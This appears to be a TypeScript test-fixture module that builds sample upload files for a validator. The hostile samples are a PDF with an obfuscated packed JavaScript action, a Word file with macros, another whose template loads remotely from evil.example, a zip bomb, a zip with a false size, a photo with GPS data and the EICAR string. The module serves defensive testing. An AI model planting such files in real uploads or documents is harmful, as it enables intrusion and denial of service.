/** Files to upload, good and bad, as the bytes of their types. */
import { deflateSync } from 'node:zlib'
import { utils, write } from '@e965/xlsx'
import { strToU8, type Zippable, zipSync } from 'fflate'
import sharp from 'sharp'

type Bytes = Uint8Array<ArrayBuffer>

const bytesOf = (data: Uint8Array): Bytes => new Uint8Array(data)
const text = (content: string): Bytes => bytesOf(Buffer.from(content, 'latin1'))

/** @param more objects of the file */
export const pdf = (more = ''): Bytes => text(`%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n${more}\n%%EOF\n`)

/** A script in a part that is packed, as most programs write them. */
export const pdfWithPackedScript = (): Bytes => {
  const packed = deflateSync(Buffer.from('1 0 << /S /Java#53cript /J#53 (app.alert(1)) >>')).toString('latin1')
  return pdf(`2 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >>\nstream\n${packed}\nendstream\nendobj`)
}

const OOXML = 'application/vnd.openxmlformats-officedocument'
const RELATIONSHIP = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'

const relationships = (type: string, target: string) =>
  strToU8(`<?xml version="1.0"?><Relationships><Relationship Id="r1" Type="${RELATIONSHIP}/${type}"
    Target="${target}" TargetMode="External"/></Relationships>`)

const word = (parts: Zippable): Bytes =>
  bytesOf(
    zipSync({
      '[Content_Types].xml': strToU8(
        `<Types><Override PartName="/word/document.xml" ContentType="${OOXML}.wordprocessingml.document.main+xml"/></Types>`,
      ),
      'word/document.xml': strToU8('<w:document/>'),
      ...parts,
    }),
  )

const LINKS = 'word/_rels/document.xml.rels'

export const docx = (): Bytes => word({ [LINKS]: relationships('hyperlink', 'https://district.example') })
export const docxWithMacros = (): Bytes => word({ 'word/vbaProject.bin': strToU8('x') })
export const docxWithTemplate = (): Bytes =>
  word({ 'word/_rels/settings.xml.rels': relationships('attachedTemplate', 'https://evil.example/t.dotm') })

const sheet = (bookType: 'xlsx' | 'biff8'): Bytes => {
  const book = utils.book_new()
  utils.book_append_sheet(book, utils.aoa_to_sheet([['ID'], [1]]), 'Sheet')
  return bytesOf(write(book, { bookType, type: 'buffer' }))
}
export const xlsx = (): Bytes => sheet('xlsx')
export const xls = (): Bytes => sheet('biff8')

/** @param size what the only part's entry says about its size, in bytes */
const zipOf = (size: number): Bytes => {
  const file = Buffer.from(zipSync({ a: new Uint8Array(100_000) }))
  const directory = file.lastIndexOf(Buffer.from('PK\x01\x02', 'latin1'))
  file.writeUInt32LE(size, directory + 24)
  return bytesOf(file)
}
export const zipBomb = (): Bytes => zipOf(2_000_000_000)
/** It is larger than it says. */
export const lyingZip = (): Bytes => zipOf(10)
export const zip = (): Bytes => bytesOf(zipSync({ 'certificate.pdf': pdf() }))

/** A photo with the place where it was taken. */
export const photo = async (): Promise<Bytes> => {
  const image = sharp({ create: { width: 40, height: 20, channels: 3, background: 'red' } })
  const place = { IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '39/1 47/1 0/1' }, IFD0: { Copyright: 'Paul Provider' } }
  return bytesOf(await image.jpeg().withExif(place).toBuffer())
}

/** The EICAR test file, which every virus scanner finds. */
export const EICAR = 'X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'
